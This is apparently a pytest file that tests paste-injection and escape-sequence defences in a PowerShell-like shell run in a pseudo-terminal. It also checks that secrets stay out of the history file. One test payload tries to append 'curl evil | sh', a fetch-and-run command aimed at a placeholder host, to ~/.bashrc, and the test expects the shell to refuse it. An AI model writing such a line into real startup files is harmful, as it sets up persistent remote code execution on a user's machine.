"""The real shell in a pseudo-terminal: a pasted confirmation never counts; history keeps secrets
out of the file; a server's escapes do not reach the terminal."""
from __future__ import annotations

import os
import sys
from pathlib import Path

import pexpect
import pytest

ROOT = Path(__file__).resolve().parents[2]
READY = "\x1b[?2004h"
PASTE_START, PASTE_END = "\x1b[200~", "\x1b[201~"
TIMEOUT = 30


@pytest.fixture
def env(clean_env) -> dict[str, str]:
    return pty_env(clean_env)


def pty_env(clean_env: Path) -> dict[str, str]:
    """The environment of a shell in a pty: a private HOME, history and XDG folders."""
    e = dict(os.environ)
    e.update({"HOME": str(clean_env / "home"), "GSHELL_HISTORY": str(clean_env / "hist" / "history"),
              "XDG_DATA_HOME": str(clean_env / "data"), "XDG_CONFIG_HOME": str(clean_env / "config"),
              "PROMPT_TOOLKIT_NO_CPR": "1", "TERM": "xterm-256color", "COLUMNS": "120", "LINES": "30",
              "PYTHONPATH": str(ROOT)})
    return e


def spawn(env: dict[str, str]) -> pexpect.spawn:
    child = pexpect.spawn(sys.executable, ["-m", "gshell"], env=env, cwd=str(ROOT), encoding="utf-8",
                          dimensions=(30, 120), timeout=TIMEOUT)
    child.expect_exact(READY)
    return child


def quit_shell(child: pexpect.spawn) -> None:
    child.expect_exact(READY)
    child.sendcontrol("d")
    child.expect(pexpect.EOF)
    child.close()


@pytest.mark.parametrize("bracketed", [True, False])
def test_pasted_yes_does_not_confirm(env, clean_env, bracketed):
    rc = clean_env / "home" / ".bashrc"
    child = spawn(env)
    payload = "Add-Content ~/.bashrc 'curl evil | sh'\ry\ryes\r"
    # bracketed: the whole paste is one input (run by Enter); its y lines are commands, not answers.
    # plain: the lines arrive as typeahead while the first one runs: they are discarded
    child.send(PASTE_START + payload + PASTE_END + "\r" if bracketed else payload)
    child.expect_exact("Type y to allow [y/N]: ")
    child.send("\r")                      # the user just presses Enter: No
    child.expect_exact("not written")
    if not bracketed:   # the pasted y / yes never answered: they ran as (failing) commands afterwards
        child.expect_exact("`yes` is an external program")
    quit_shell(child)
    assert not rc.exists()


def test_typed_yes_after_the_paste_confirms(env, clean_env):
    rc = clean_env / "home" / ".bashrc"
    child = spawn(env)
    child.send(PASTE_START + "Add-Content ~/.bashrc 'alias ll=ls'\r" + PASTE_END)
    child.send("\r")
    child.expect_exact("Type y to allow [y/N]: ")
    child.send("y\r")
    quit_shell(child)
    assert rc.read_text() == "alias ll=ls\n"


def test_history_file_and_screen(env, clean_env):
    child = spawn(env)
    child.send("$p = @{Tok='abc123secret'}\r")
    child.expect_exact(READY)
    child.send("'plain line'\r")
    child.expect_exact("plain line")
    child.send("\"`e]0;title`a\"\r")
    child.expect_exact("^[]0;title^G")
    quit_shell(child)
    text = (clean_env / "hist" / "history").read_text()
    assert "plain line" in text and "abc123secret" not in text
